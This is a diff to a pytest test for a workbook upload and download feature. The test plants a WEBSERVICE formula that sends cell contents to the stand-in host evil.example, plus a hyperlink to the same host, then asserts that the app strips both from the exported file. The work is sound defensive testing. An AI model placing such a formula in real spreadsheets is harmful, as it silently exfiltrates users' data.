@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import re
+import zipfile
 from html import unescape
 
 import pytest
@@ -14,7 +15,7 @@ from sqlalchemy import select
 from liff_app.db import db, transaction
 from liff_app.procedures import samples
 from liff_app.procedures.models import FormBench
-from liff_app.procedures.workbooks import writing
+from liff_app.procedures.workbooks import reading, writing
 from liff_app.staff import service as staff
 from liff_app.staff.vocabulary import Role
 from tests.conftest import ConsoleVisitor, colleague, on_sqlite
@@ -104,11 +105,27 @@ def test_a_copy_has_its_own_name_address_and_prefix(maker: ConsoleVisitor) -> No
     assert fine.status_code == 303
 
 
-def test_the_workbook_comes_back_as_it_was_brought(maker: ConsoleVisitor) -> None:
-    raw = samples.raw("juminhyo")
-    path = begin(maker, "file", slug="juminhyo", **file(raw))
+def test_the_workbook_comes_back_with_what_its_cells_said_and_nothing_else(
+    maker: ConsoleVisitor,
+) -> None:
+    book = load_workbook(io.BytesIO(samples.raw("juminhyo")))
+    memo = book.create_sheet("memo")
+    memo["A1"], memo["A2"] = '=WEBSERVICE("http://evil.example/?"&A2)', "marked"
+    book["survey"]["A1"].hyperlink = "https://evil.example/"
+    brought = io.BytesIO()
+    book.save(brought)
+    path = begin(maker, "file", slug="juminhyo", **file(brought.getvalue()))
+    page = sound(maker.get(path))
+    assert "memo シート" in page
+    assert "このシートは読み込まず、保存もしません。" in page
     answer = maker.get(f"{path}/workbook.xlsx")
-    assert answer.data == raw
+    grid = reading.open_workbook(samples.raw("juminhyo"))
+    assert answer.data == writing.write(grid)
+    assert reading.open_workbook(answer.data) == grid
+    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
+        whole = b"".join(map(archive.read, archive.namelist()))
+    for word in (b"evil", b"marked", b"<f>", b"External"):
+        assert word not in whole
     assert answer.headers["Content-Disposition"] == 'attachment; filename="juminhyo-1.xlsx"'
     assert noted("procedure_form.downloaded") == 1
 
